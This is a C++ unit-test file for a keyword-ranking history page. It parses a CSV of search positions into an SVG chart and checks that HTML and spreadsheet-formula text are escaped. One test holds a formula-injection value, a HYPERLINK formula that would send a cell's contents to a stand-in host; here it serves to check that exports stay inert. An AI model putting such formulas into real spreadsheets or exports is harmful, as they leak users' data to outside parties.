#include "engines/PositionHistoryPage.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cmath>
#include <cstdlib>
#include <string>
#include <utility>
#include <vector>

#include "engines/PositionHistory.h"

namespace sg {
namespace {

using Points = std::vector<std::pair<double, double>>;

// The value of attribute `name` in each `<tag ` element of the page, in page order.
std::vector<std::string> Attributes(const std::string& page, const std::string& tag,
                                    const std::string& name) {
    std::vector<std::string> values;
    for (std::size_t at = page.find("<" + tag + " "); at != std::string::npos;
         at = page.find("<" + tag + " ", at + 1)) {
        const std::size_t end = page.find('>', at);
        const std::size_t start = page.find(" " + name + "='", at);
        if (start == std::string::npos || start > end) {
            values.emplace_back();
            continue;
        }
        const std::size_t from = start + name.size() + 3;
        values.push_back(page.substr(from, page.find('\'', from) - from));
    }
    return values;
}

Points ParsePoints(const std::string& text) {
    Points points;
    const char* p = text.c_str();
    char* end = nullptr;
    for (;;) {
        const double x = std::strtod(p, &end);
        if (end == p || *end != ',') {
            return points;
        }
        p = end + 1;
        const double y = std::strtod(p, &end);
        points.emplace_back(x, y);
        p = end;
    }
}

void ExpectNear(const Points& got, const Points& want, const std::string& what) {
    ASSERT_EQ(got.size(), want.size()) << what;
    for (std::size_t i = 0; i < got.size(); ++i) {
        EXPECT_NEAR(got[i].first, want[i].first, 0.06) << what << " point " << i;
        EXPECT_NEAR(got[i].second, want[i].second, 0.06) << what << " point " << i;
    }
}

// Four runs of one keyword, read from a table whose records are not in date order. Runs lie at
// x 50, 236.7, 423.3 and 610; positions 1 to 7 from y 20 down to 280.
//   alpha/Google: 1, 3, -, 2  -> a line over the first two runs and a lone point at the last
//   <b>/AOL:      -, 7, 4, -  -> a line over the middle two runs
TEST(PositionHistoryPage, LinesFollowTheRunsWithGapsWhereNotFound) {
    const std::string table =
        "date,keyword,site,engine,position\r\n"
        "2026-03-01T10:00:00,\"red, \"\"big\"\" shoes\",alpha.test,Google,\r\n"
        "2026-03-01T10:00:00,\"red, \"\"big\"\" shoes\",<b>,AOL,4\r\n"
        "2026-01-01T10:00:00,\"red, \"\"big\"\" shoes\",alpha.test,Google,1\r\n"
        "2026-01-01T10:00:00,\"red, \"\"big\"\" shoes\",<b>,AOL,\r\n"
        "2026-02-01T10:00:00,\"red, \"\"big\"\" shoes\",alpha.test,Google,3\r\n"
        "2026-02-01T10:00:00,\"red, \"\"big\"\" shoes\",<b>,AOL,7\r\n"
        "2026-02-01T10:00:00,broken,record\r\n"
        "2026-02-01T10:00:00,\"red, \"\"big\"\" shoes\",alpha.test,Google,zero\r\n"
        "2026-04-01T10:00:00,\"red, \"\"big\"\" shoes\",alpha.test,Google,2\r\n"
        "2026-04-01T10:00:00,\"red, \"\"big\"\" shoes\",<b>,AOL,\r\n";
    const std::vector<PositionHistoryRow> rows = ParsePositionHistory(table);
    ASSERT_EQ(rows.size(), 8u) << "the header and the two bad records are left out";
    EXPECT_EQ(rows[0].keyword, "red, \"big\" shoes");
    EXPECT_EQ(rows[0].position, 0);
    EXPECT_EQ(rows[1].position, 4);

    const std::string page = PositionHistoryPageText(rows);
    const std::vector<std::string> lines = Attributes(page, "polyline", "points");
    ASSERT_EQ(lines.size(), 2u) << page;
    ExpectNear(ParsePoints(lines[0]), {{50, 20}, {236.7, 106.7}}, "alpha");
    ExpectNear(ParsePoints(lines[1]), {{236.7, 280}, {423.3, 150}}, "<b>");
    const std::vector<std::string> strokes = Attributes(page, "polyline", "stroke");
    EXPECT_NE(strokes[0], strokes[1]);

    Points circles;
    const std::vector<std::string> cx = Attributes(page, "circle", "cx");
    const std::vector<std::string> cy = Attributes(page, "circle", "cy");
    for (std::size_t i = 0; i < cx.size(); ++i) {
        circles.emplace_back(std::stod(cx[i]), std::stod(cy[i]));
    }
    ExpectNear(circles, {{50, 20}, {236.7, 106.7}, {610, 63.3}, {236.7, 280}, {423.3, 150}},
               "circles");

    // Axis labels from 1 at the top to 7 at the bottom, and the runs' dates under the axis.
    const std::vector<std::string> labelY = Attributes(page, "text class='position'", "y");
    ASSERT_FALSE(labelY.empty());
    EXPECT_EQ(labelY.front(), "24");
    EXPECT_EQ(labelY.back(), "284");
    EXPECT_NE(page.find(">1</text>"), std::string::npos);
    EXPECT_NE(page.find(">7</text>"), std::string::npos);
    EXPECT_NE(page.find(">2026-01-01</text>"), std::string::npos);
    EXPECT_NE(page.find(">2026-04-01</text>"), std::string::npos);

    // Texts are escaped: the keyword's quotes and the site's markup.
    EXPECT_EQ(page.find("<b>"), std::string::npos);
    EXPECT_NE(page.find("&lt;b&gt; on AOL</li>"), std::string::npos);
    EXPECT_NE(page.find("red, &quot;big&quot; shoes</h2>"), std::string::npos);
    EXPECT_NE(page.find("alpha.test on Google</li>"), std::string::npos);
}

// A keyword or a site that a spreadsheet would run as a formula goes into the table as text and
// reads back as it was written.
TEST(PositionHistoryPage, FormulaLikeTextsAreKeptAsText) {
    const std::vector<PositionHistoryRow> rows = {
        {"2026-01-01T10:00:00", "=HYPERLINK(\"http://x/?\"&A1)", "@site", "-Engine", 2}};
    const std::string table = PositionHistoryRecords(rows);
    EXPECT_EQ(table,
              "2026-01-01T10:00:00,\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",'@site,'-Engine,2\r\n");
    const std::vector<PositionHistoryRow> back = ParsePositionHistory(table);
    ASSERT_EQ(back.size(), 1u);
    EXPECT_EQ(back[0].keyword, rows[0].keyword);
    EXPECT_EQ(back[0].site, rows[0].site);
    EXPECT_EQ(back[0].engine, rows[0].engine);
}

}  // namespace
}  // namespace sg
